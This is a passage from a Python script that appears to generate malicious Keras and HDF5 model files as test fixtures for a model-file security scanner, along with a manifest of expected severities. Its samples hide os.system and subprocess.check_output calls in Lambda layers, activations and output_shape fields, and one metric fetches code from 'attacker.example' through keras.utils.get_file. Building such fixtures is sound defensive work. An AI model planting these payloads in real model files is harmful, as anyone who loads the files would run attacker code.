    row("malicious/lambda_huge_attribute.h5.gz", "malicious", "critical", "critical", ["keras/lambda"], "system",
        "model_config over 64 KiB as a fixed-length string in a libver-latest file (a huge fractal-heap object); gzipped")
    if ("2.7", "os_system") in CODE:
        # Keras 1 stored marshal bytes as a str through raw_unicode_escape.
        raw = CODE[("2.7", "os_system")].decode("raw_unicode_escape")
        mal_h5("lambda_py27.h5", k2_model([k2_input("dense_input", 4),
                                           k2_lambda("lambda", raw, module="__main__")]),
               "critical", "critical", ["keras/lambda"], "system",
               "Keras 1 style: function is the marshal bytes of Python 2.7 code as a raw_unicode_escape str",
               keras_version="1.2.2", training_config=None)
    mal_h5("function_os_system.h5", k2_with(k2_lambda("lambda", "system", function_type="function", module="os")),
           "critical", "critical", ["keras/foreign-object"], "os.system",
           "Lambda with function_type function naming os.system")
    mal_h5("output_shape_lambda.h5",
           k2_with(k2_lambda("lambda", [harmless, None, None], output_shape=[code[("3.11", "os_system")], None, None],
                             output_shape_type="lambda")),
           "critical", "critical", ["keras/lambda"], "system",
           "harmless function, payload in the output_shape lambda")
    mal_h5("module_injection.h5", k2_with(k2_dense("d", 8, activation={
        "module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": None})),
           "critical", "critical", ["keras/foreign-object"], "subprocess.check_output",
           "model_config activation naming subprocess.check_output")
    bad_training = dict(TRAINING)
    bad_training["metrics"] = [{"module": "keras.utils", "class_name": "function", "config": "get_file",
                                "registered_name": None, "origin": "https://attacker.example/m.py"}]
    mal_h5("get_file_training.h5", k2_with(), "high", "high", ["keras/external-resource"], "get_file",
           "training_config metric naming keras.utils.get_file with a URL", training_config=bad_training)
    full = os.path.join(KERAS, "malicious", "truncated.h5")
    keras2_h5("malicious/truncated.h5", k2_evil)
    with open(full, "r+b") as f:
        f.truncate(700)
    row("malicious/truncated.h5", "malicious", "medium", "medium", ["keras/malformed"], "",
        "the os.system model cut to 700 bytes: the root group's attributes are gone")

    with open(os.path.join(KERAS, "MANIFEST.tsv"), "w") as f:
        f.write("path\tverdict\tmin_severity\tmax_severity\trules\tevidence\tdescription\n")
        for r in MANIFEST:
            f.write("\t".join(r) + "\n")


def main():
    gen_marshal()
    gen_hdf5()
    gen_keras()


if __name__ == "__main__":
    main()
